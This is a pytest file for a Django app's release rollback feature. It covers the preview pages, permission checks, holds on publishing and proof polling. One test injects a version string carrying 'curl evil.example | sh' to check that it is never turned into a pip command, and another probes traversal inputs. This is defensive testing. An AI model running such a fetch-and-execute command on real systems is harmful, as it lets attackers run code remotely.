"""Going back: the preview of each side, the proof, and the hold that follows."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from presets_app.core.errors import Conflict
from presets_app.models import AuditEvent, Check, Preset, Release, Run, Snapshot
from presets_app.services import indexing, releases
from tests.support import project as support
from tests.support.released import Studio, signed_in
from tests.support.rendered import clip, finish_all
from tests.web.releases.test_publish import form_of

pytestmark = [pytest.mark.django_db(transaction=True), pytest.mark.services]
ADDRESS = "/p/studio/releases/rollback"
INDEX = "/p/studio/releases/"
LIFT = "/p/studio/releases/lift"


@pytest.fixture
def snapshot(studio: Studio) -> Snapshot:
    """What was live before a second release replaced it; between the two, torch was updated on one machine."""
    studio.published()
    support.tell(studio.left, support.answer(torch="2.14.0"))
    studio.revise("Another prompt")
    studio.published()
    return Snapshot.objects.get()


def test_the_preview_says_what_is_restored_by_whom(studio: Studio, snapshot: Snapshot) -> None:
    page = signed_in("grace").get(f"{ADDRESS}?to={snapshot.id}").content.decode()
    assert "last known good" in page
    assert f"revision 2 ({studio.preset.digest[:8]})" in page
    assert "revision 1" in page
    assert "For a person at the machine" in page
    assert "pip install torch==2.13.0" in page
    assert page.count("pip install") == 1


def test_a_version_that_is_no_plain_version_never_becomes_a_command(studio: Studio) -> None:
    support.tell(studio.left, support.answer(torch="2.13; curl evil.example | sh"))
    studio.pin()
    studio.published()
    studio.revise("Another prompt")
    studio.published()
    support.tell(studio.left, support.answer(torch="2.14.0"))
    page = signed_in("grace").get(f"{ADDRESS}?to={Snapshot.objects.get().id}").content.decode()
    assert "2.13; curl" in page
    assert "pip install" not in page


def test_going_back_moves_both_sides_and_starts_the_proof(studio: Studio, snapshot: Snapshot) -> None:
    grace = signed_in("grace")
    given = form_of(grace.get(f"{ADDRESS}?to={snapshot.id}").content.decode())
    answer = grace.post(ADDRESS, {**given, "sides": "both", "reason": "The look broke."})
    release = Release.objects.get(kind="rollback")
    assert (answer.status_code, answer["Location"]) == (303, f"{INDEX}{release.commit}")
    assert studio.live() == {side["digest"] for side in snapshot.sides.values()}
    assert {proof.target for proof in release.proofs.all()} == {"local", "second"}
    again = grace.post(ADDRESS, {**given, "reason": "The look broke."})
    assert again.status_code == 409
    assert Release.objects.filter(kind="rollback").count() == 1


def test_one_side_alone_goes_back_and_is_proven(studio: Studio, snapshot: Snapshot) -> None:
    grace, new = signed_in("grace"), studio.preset.digest
    answer = grace.post(ADDRESS, {"snapshot": snapshot.id, "sides": "local", "reason": "Only here."})
    assert answer.status_code == 303
    live = releases.sides(studio.preset)
    assert live["local"]["digest"] == snapshot.sides["local"]["digest"]
    assert live["second"]["digest"] == new
    assert [proof.target for proof in Release.objects.get(kind="rollback").proofs.all()] == ["local"]


def test_what_cannot_be_is_refused(studio: Studio, snapshot: Snapshot) -> None:
    grace = signed_in("grace")
    for changed, status in (
        ({"reason": ""}, 422),
        ({"reason": "x" * 3000}, 422),
        ({"snapshot": ""}, 422),
        ({"snapshot": "nothing"}, 404),
        ({"sides": "moon"}, 422),
        ({"expected": "0" * 64}, 409),
    ):
        given = {"snapshot": snapshot.id, "sides": "both", "reason": "The look broke.", **changed}
        answer = grace.post(ADDRESS, given)
        assert answer.status_code == status
        assert "The look broke." in answer.content.decode() or {"reason", "snapshot"} & set(changed)
    assert Release.objects.filter(kind="rollback").count() == 0


def test_who_may_not_is_told_or_refused(studio: Studio, snapshot: Snapshot) -> None:
    assert b"does not roll back" in signed_in("ada").get(f"{ADDRESS}?to={snapshot.id}").content
    for username, status in (("ada", 403), ("vic", 403), ("mallory", 404)):
        answer = signed_in(username).post(ADDRESS, {"snapshot": snapshot.id, "reason": "x"})
        assert answer.status_code == status
    assert signed_in("olu").post(ADDRESS, {"snapshot": snapshot.id, "reason": "x"}).status_code == 303


def test_after_going_back_nothing_is_published_until_somebody_lets_it_through(
    studio: Studio, snapshot: Snapshot
) -> None:
    releases.roll_back(snapshot, studio.people.grace, "The look broke.")
    studio.preset.refresh_from_db()
    migration, grace = studio.approved(), signed_in("grace")
    publish = f"{INDEX}publish"
    assert "updates are held" in grace.get(f"{publish}?migration={migration.id}").content.decode()
    refused = grace.post(publish, {"migration": migration.id, "reason": "Try."})
    assert refused.status_code == 409
    assert "Updates of this preset are held since grace rolled it back." in refused.content.decode()
    with pytest.raises(Conflict) as raised:
        releases.publish(migration, studio.people.olu)
    assert raised.value.code == "lane_held"
    assert b"was rolled back by Grace: updates are held" in grace.get(INDEX).content
    assert grace.post(LIFT, {"preset": studio.preset.slug, "reason": ""}).status_code == 422
    assert grace.post(LIFT, {"preset": studio.preset.slug, "reason": "Mended."}).status_code == 303
    assert grace.post(LIFT, {"preset": studio.preset.slug, "reason": "Mended."}).status_code == 409
    assert grace.post(publish, {"migration": migration.id}).status_code == 303
    assert studio.live() == {studio.preset.digest}
    assert AuditEvent.objects.filter(verb="release.lift", reason="Mended.", by="grace").count() == 1


def test_only_who_may_publish_lifts_a_hold(studio: Studio, snapshot: Snapshot) -> None:
    releases.roll_back(snapshot, studio.people.grace, "The look broke.")
    given = {"preset": studio.preset.slug, "reason": "Mine."}
    assert signed_in("ada").post(LIFT, given).status_code == 403
    assert b"Let updates through again" not in signed_in("ada").get(INDEX).content
    assert signed_in("grace").post(LIFT, {**given, "preset": "nothing"}).status_code == 404


def test_a_hold_and_its_lifting_survive_a_rebuild(studio: Studio, snapshot: Snapshot) -> None:
    def told() -> tuple[Any, ...]:
        preset = Preset.objects.get(pk=studio.preset.pk)
        return preset.held, list(Release.objects.order_by("pk").values_list("commit", "kind", "reason"))

    releases.roll_back(snapshot, studio.people.grace, "The look broke.")
    held = told()
    assert held[0]["by"] == "grace"
    indexing.rebuild(studio.project)
    assert told() == held
    releases.lift(studio.preset, studio.people.grace, "Mended.")
    lifted = told()
    assert (lifted[0], lifted[1]) == ({}, held[1])
    indexing.rebuild(studio.project)
    assert told() == lifted


def test_the_proof_polls_until_every_side_is_judged(studio: Studio, snapshot: Snapshot, tmp_path: Path) -> None:
    from presets_app.services import parity_flow

    release = releases.roll_back(snapshot, studio.people.grace, "The look broke.")
    address, vic = f"{INDEX}{release.commit}", signed_in("vic")
    page = vic.get(address).content.decode()
    assert "being rendered again" in page
    assert "hx-trigger" in page
    assert "pip install torch==2.13.0" in page
    for proof in release.proofs.all():
        check = Check.objects.get(pk=proof.check_id)
        finish_all(check.right, clip(tmp_path), raw="a" * 64)
        parity_flow.judge(check.id)
    support.tell(studio.left, support.answer(torch="2.13.0"))
    fragment = vic.get(address, HTTP_HX_REQUEST="true")
    page = fragment.content.decode()
    assert "hx-trigger" not in page
    assert "It is back" in page
    assert "pip install" not in page
    assert "torch 2.13.0" in page
    assert "It is back" in fragment["HX-Trigger"]
    assert vic.get(address, HTTP_HX_REQUEST="true").status_code == 200


def test_a_queue_that_is_down_holds_no_rollback_up(studio: Studio, snapshot: Snapshot, settings: Any) -> None:
    settings.REDIS_URL = "unix:///nowhere/redis.sock"
    settings.RQ_QUEUES = {name: {**queue, "URL": settings.REDIS_URL} for name, queue in settings.RQ_QUEUES.items()}
    answer = signed_in("grace").post(ADDRESS, {"snapshot": snapshot.id, "reason": "The look broke."})
    assert answer.status_code == 303
    release = Release.objects.get(kind="rollback")
    assert release.proofs.count() == 2
    assert Run.objects.filter(kind="restore").count() == 2
    assert signed_in("grace").get(answer["Location"]).status_code == 200


def test_a_rollback_that_is_not_there_is_not_found(project: Any, people: Any) -> None:
    for number in ("nothing", "%00", "..%2f", "0" * 40, "0" * 400):
        assert signed_in("vic").get(f"{INDEX}{number}").status_code == 404
        assert signed_in("vic").get(ADDRESS, {"to": number}).status_code == 404


def test_old_releases_can_be_gone_back_to_from_the_list(
    studio: Studio, snapshot: Snapshot, django_assert_max_num_queries: Any
) -> None:
    grace = signed_in("grace")
    with django_assert_max_num_queries(25):
        page = grace.get(INDEX).content.decode()
    assert page.count("Roll back to this") == 1
    assert f"{ADDRESS}?to={snapshot.id}" in page
    assert "Roll back to this" not in signed_in("ada").get(INDEX).content.decode()
    assert grace.get(f"{INDEX}?before=%00&after=x").status_code == 200
    assert grace.get(f"{INDEX}?before={'9' * 40}").status_code == 200
